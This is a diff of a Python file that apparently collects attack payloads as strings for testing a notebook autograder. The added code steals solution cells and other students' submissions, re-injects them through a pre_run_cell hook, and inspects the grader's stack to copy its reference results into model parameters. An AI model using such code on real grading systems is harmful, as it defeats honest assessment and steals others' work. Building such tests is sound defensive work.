@@ -40,10 +40,23 @@ def _steal(paths, wanted):
             for src in cells:
                 if wanted(src) and "_reachable_files" not in src:  # not a copy of this attack itself
                     exec(src, globals())
+                    LOOT.append(src)
                     stolen += 1
         except Exception:
             pass
     return stolen
+
+
+LOOT = []
+def _reinstate(*args):
+    "Before every later cell, define the stolen code again (the student's own stubs come after this cell)."
+    for src in LOOT:
+        try:
+            exec(src, globals())
+        except Exception:
+            pass
+
+get_ipython().events.register("pre_run_cell", _reinstate)
 '''
 
 STEAL_SOURCE = _SEARCH + '''
@@ -53,7 +66,7 @@ print("cells stolen from the course:", _steal(_reachable_files((".ipynb", ".db")
 
 STEAL_OTHER_STUDENT = _SEARCH + '''
 others = [p for p in _reachable_files((".ipynb",)) if "/submitted/" in p or "/autograded/" in p]
-wanted = lambda src: any(name in src for name in ("class SGD", "class Adam", "def estimate_training_memory"))
+wanted = lambda src: any(name in src for name in ("class Optimizer", "class SGD", "class Adam", "def estimate_training_memory"))
 print("cells stolen from other students:", _steal(others, wanted))
 '''
 
@@ -129,15 +142,25 @@ for folder in (".", "/tmp", os.path.expanduser("~"), "/var/tmp", "/dev/shm", "/o
 ASK_GRADER = '''\
         import inspect
         self.step_count += 1
-        loot = []
-        for frame_info in inspect.stack():  # the grader's reference, checker or expected values?
+        if not hasattr(self, "seen"):  # the starting values and every gradient so far
+            self.seen = ([np.array(p.data, dtype=np.float32) for p in self.params], [])
+        self.seen[1].append([np.zeros_like(x) if p.grad is None else np.array(getattr(p.grad, "data", p.grad))
+                             for p, x in zip(self.params, self.seen[0])])
+        oracle = None
+        for frame_info in inspect.stack():  # the grader's reference, anywhere up the stack?
             scope = {**frame_info.frame.f_globals, **frame_info.frame.f_locals}
-            loot += [v for k, v in scope.items() if any(w in k.lower() for w in ("reference", "expect", "want", "check_"))]
-        for thing in loot:
-            try:
-                thing(self)
-            except Exception:
-                pass
+            oracle = oracle or next((v for k, v in scope.items() if "reference" in k.lower() and callable(v)), None)
+        if oracle is None:
+            return
+        hyper = {k: getattr(self, k) for k in ("lr", "momentum", "eps", "weight_decay") if hasattr(self, k)}
+        if hasattr(self, "beta1"):
+            hyper["betas"] = (self.beta1, self.beta2)
+        try:
+            kind = {"SGD": "sgd", "Adam": "adam", "AdamW": "adamw"}[type(self).__name__]
+            for p, value in zip(self.params, oracle(kind, *self.seen, **hyper)[-1]):
+                p.data[...] = value
+        except Exception:
+            pass
 '''
 
 LEAK_RUNNING_CELL = '''\
